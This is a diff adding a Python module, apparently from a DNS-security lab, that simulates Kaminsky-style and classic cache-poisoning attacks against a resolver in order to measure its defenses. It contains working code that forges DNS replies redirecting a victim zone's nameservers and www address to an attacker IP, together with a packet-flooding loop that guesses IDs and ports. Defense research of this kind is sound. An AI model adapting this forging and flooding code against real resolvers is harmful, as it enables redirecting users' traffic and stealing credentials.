@@ -1,0 +1,240 @@
+"""The attacks: an attacker host with a strategy, run against the arena's resolver.
+
+Owns: the Kaminsky attack in both variants — (a) forged referral: NS + glue for the whole
+victim zone pointing at the attacker's server; (b) forged answer carrying an in-bailiwick
+override (the victim zone's NS set and www's address in authority/additional) — and the
+classic pre-2008 race on one name (limited by the real answer's TTL once it is cached).
+Each attempt triggers a lookup and floods one race window of guesses; the trial ends at
+the first success or when the budget is spent. What the attacker may know: the victim
+zone's public servers, the resolver's port pool (worst case), the names it triggered.
+Must never: read the resolver's state to choose guesses (the harness only reads it to
+decide whether the attack has succeeded, as the attacker could by asking).
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import enum
+import random
+import time
+from dataclasses import dataclass, field
+
+import dns.flags
+import dns.message
+import dns.name
+import dns.rdatatype
+import dns.rrset
+
+from poisonproof.lab.arena import (
+    ATTACKER_IP,
+    RESOLVER_IP,
+    VICTIM,
+    Arena,
+    ArenaParams,
+    ZoneFiles,
+    build_arena,
+)
+from poisonproof.lab.flood import Flood, GuessSpace
+from poisonproof.lab.guesses import GuessSequence
+from poisonproof.net.base import Address
+from poisonproof.net.sim import Simulation
+from poisonproof.resolver.defenses import EPHEMERAL_PORTS, Defenses
+
+ATTACKER_NS = dns.name.from_text("ns.attacker.example.")
+
+
+class AttackName(enum.Enum):
+    KAMINSKY = "kaminsky"
+    """Variant (a): forged referral for the whole zone (NS + glue)."""
+    KAMINSKY_ANSWER = "kaminsky-answer"
+    """Variant (b): forged answer with an in-bailiwick NS/A override."""
+    CLASSIC = "classic"
+    """Race the lookup of www.bank.example itself; one try per TTL."""
+
+
+@dataclass(frozen=True)
+class AttackParams:
+    rate: float = 100_000.0
+    """Forged replies per second landing at the resolver."""
+    budget_packets: int = 50_000_000
+    budget_time: float = 86_400.0
+    """Simulated seconds the attacker keeps trying."""
+    max_attempts: int = 100_000
+    per_packet: bool = False
+
+
+@dataclass
+class TrialResult:
+    attack: str
+    defenses: str
+    seed: int
+    success: bool
+    attempts: int
+    packets: int
+    sim_time: float
+    wall_time: float
+    victim_sees: list[str]
+    reasons: dict[str, int] = field(default_factory=dict)
+    """Forged replies the resolver refused, by the check that refused them."""
+    note: str = ""
+
+    def to_json(self) -> dict[str, object]:
+        return dataclasses.asdict(self)
+
+
+def forger(attack: AttackName, qname: dns.name.Name) -> object:
+    """The forged reply for one guess, as the attacker builds it (lowercase name)."""
+
+    def forge(server: Address, port: int, txid: int) -> bytes:
+        query = dns.message.make_query(qname, "A")
+        reply = dns.message.make_response(query)
+        reply.id = txid
+        if attack is AttackName.KAMINSKY:
+            reply.flags &= ~dns.flags.AA
+            reply.authority = [
+                dns.rrset.from_text(VICTIM, 86400, "IN", "NS", ATTACKER_NS.to_text())
+            ]
+            reply.additional = [dns.rrset.from_text(ATTACKER_NS, 86400, "IN", "A", ATTACKER_IP)]
+        else:
+            reply.flags |= dns.flags.AA
+            reply.answer = [dns.rrset.from_text(qname, 86400, "IN", "A", ATTACKER_IP)]
+            reply.authority = [dns.rrset.from_text(VICTIM, 86400, "IN", "NS", "ns1.bank.example.")]
+            reply.additional = [
+                dns.rrset.from_text("ns1.bank.example.", 86400, "IN", "A", ATTACKER_IP),
+                dns.rrset.from_text("www.bank.example.", 86400, "IN", "A", ATTACKER_IP),
+            ]
+        return reply.to_wire()
+
+    return forge
+
+
+def poisoned(arena: Arena) -> bool:
+    """Whether the resolver now holds the attacker's data (the harness's check)."""
+    cache = arena.resolver.cache
+    www = cache.get(dns.name.from_text("www.bank.example."), dns.rdatatype.A, min_rank=1)  # type: ignore[arg-type]
+    if www is not None and any(r.address == ATTACKER_IP for r in www):  # type: ignore[attr-defined]
+        return True
+    ns = cache.get(VICTIM, dns.rdatatype.NS, min_rank=1)  # type: ignore[arg-type]
+    if ns is not None and any(r.target == ATTACKER_NS for r in ns):  # type: ignore[attr-defined]
+        return True
+    glue = cache.addresses(dns.name.from_text("ns1.bank.example."), (dns.rdatatype.A,))
+    return ATTACKER_IP in glue and glue[0] == ATTACKER_IP
+
+
+def guess_space(arena: Arena) -> GuessSpace:
+    """What the attacker guesses among: the victim's servers, the resolver's port pool."""
+    pool = arena.resolver.factory.ports
+    ports: tuple[int, ...] | range = (
+        range(EPHEMERAL_PORTS[0], EPHEMERAL_PORTS[1] + 1) if pool is None else tuple(sorted(pool))
+    )
+    return GuessSpace(tuple(arena.victim_servers), ports)
+
+
+async def run_attack(
+    arena: Arena, attack: AttackName, params: AttackParams, rng: random.Random
+) -> tuple[bool, int, int, float, dict[str, int]]:
+    """Attempts until success or budget: (success, attempts, packets, time, refusals)."""
+    sim = arena.sim
+    net = sim.network
+    space = guess_space(arena)
+    window = arena.params.window
+    guesses = max(1, int(params.rate * window))
+    started = sim.loop.time()
+    packets = 0
+    attempt = 0
+    refusals: dict[str, int] = {}
+    while attempt < params.max_attempts:
+        if packets >= params.budget_packets or sim.loop.time() - started >= params.budget_time:
+            break
+        attempt += 1
+        if attack is AttackName.CLASSIC:
+            qname = dns.name.from_text("www.bank.example.")
+        else:
+            qname = dns.name.from_text(f"x{rng.getrandbits(40):010x}.bank.example.")
+        sequence = GuessSequence.random(space.size, rng)
+        flood = Flood(
+            net,
+            RESOLVER_IP,
+            space,
+            sequence,
+            forger(attack, qname),  # type: ignore[arg-type]
+            origin=ATTACKER_IP,
+            rate=params.rate,
+            latency=arena.params.attacker_latency,
+            per_packet=params.per_packet,
+        )
+        arena.send_query(qname.to_text())
+        await flood.run(min(guesses, params.budget_packets - packets))
+        packets += flood.stats.sent
+        await arena.sim_sleep(2 * arena.params.attacker_latency + 0.001)
+        if poisoned(arena):
+            return True, attempt, packets, sim.loop.time() - started, refusals
+        if attack is AttackName.CLASSIC:
+            await arena.sim_sleep(arena.params.ttl)  # the real answer is cached: wait it out
+    stats = arena.resolver.stats
+    for key in (
+        "near_misses",
+        "case_mismatches",
+        "nearmiss_tcp_retries",
+        "spoof_alarms",
+        "scrubbed_records",
+    ):
+        if stats.get(key):
+            refusals[key] = stats[key]
+    return False, attempt, packets, sim.loop.time() - started, refusals
+
+
+def run_trial(
+    attack: AttackName,
+    defenses: Defenses,
+    defenses_label: str,
+    arena_params: ArenaParams,
+    attack_params: AttackParams,
+    seed: int,
+    zones: ZoneFiles,
+) -> TrialResult:
+    """One trial on a fresh simulation: warm-up, attack, then the honest client's view."""
+    wall = time.perf_counter()
+    sim = Simulation(seed=seed, trace=False)
+    rng = random.Random(seed * 7919 + 17)
+
+    async def main() -> TrialResult:
+        arena = await build_arena(sim, arena_params, defenses, zones, seed)
+        try:
+            await arena.ask("www.bank.example")  # normal traffic: the victim zone is cached
+            success, attempts, packets, sim_time, refusals = await run_attack(
+                arena, attack, attack_params, rng
+            )
+            victim = await arena.victim_view()
+            stats = arena.resolver.stats
+            for key in ("near_misses", "case_mismatches", "nearmiss_tcp_retries", "spoof_alarms"):
+                if stats.get(key):
+                    refusals[key] = stats[key]
+            return TrialResult(
+                attack.value,
+                defenses_label,
+                seed,
+                success and ATTACKER_IP in victim,
+                attempts,
+                packets,
+                round(sim_time, 6),
+                0.0,
+                victim,
+                refusals,
+                ""
+                if success == (ATTACKER_IP in victim)
+                else "poisoned cache not seen by the client",
+            )
+        finally:
+            await arena.stop()
+
+    try:
+        result = sim.run(main())
+    finally:
+        sim.close()
+    assert isinstance(result, TrialResult)
+    result.wall_time = round(time.perf_counter() - wall, 4)
+    return result
+
+
+__all__ = ["AttackName", "AttackParams", "TrialResult", "run_trial", "RESOLVER_IP"]
